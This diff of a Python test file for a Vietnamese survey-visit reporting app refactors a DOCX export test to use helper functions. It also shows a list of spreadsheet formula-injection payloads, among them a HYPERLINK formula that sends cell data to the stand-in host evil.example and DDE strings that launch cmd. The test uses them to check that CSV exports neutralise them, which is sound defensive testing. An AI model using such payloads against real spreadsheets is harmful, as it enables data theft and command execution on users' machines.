@@ -14,6 +14,8 @@ CORE_PROPERTY_LIMIT = 255  # Word's limit on a core property
 from survey_app.domain.visits.document import import_document
 from survey_app.storage import accounts as accounts_sql
 
+from .support import api_headers, seed_visit
+
 REPORT = "/followup/report.{fmt}?from=2025-10-01&to=2025-10-31"
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -53,8 +55,8 @@ def test_formula_starts_are_neutralised_in_the_csv(app, store, login_as):
 
 
 def test_docx_of_a_long_subject(login_as, runner, client, store):
-    headers = {"Authorization": "Bearer " + runner.invoke(args=["token", "create", "thuky"]).output.strip()}
-    visit_id = store.db.execute("SELECT id FROM visits WHERE uuid = ?", [seed_document()["uuid"]]).fetchone()[0]
+    headers = api_headers(runner, "thuky")
+    visit_id = seed_visit(store)["id"]
     subject = ("Làm việc với Trung tâm Phục vụ hành chính công xã Hra về việc tiếp nhận, giải quyết thủ tục "
                "hành chính, thực hiện cơ chế một cửa, một cửa liên thông và chuyển đổi số trong giải quyết "
                "thủ tục hành chính trên địa bàn xã trong năm 2025 và những tháng đầu năm 2026 theo kế hoạch "
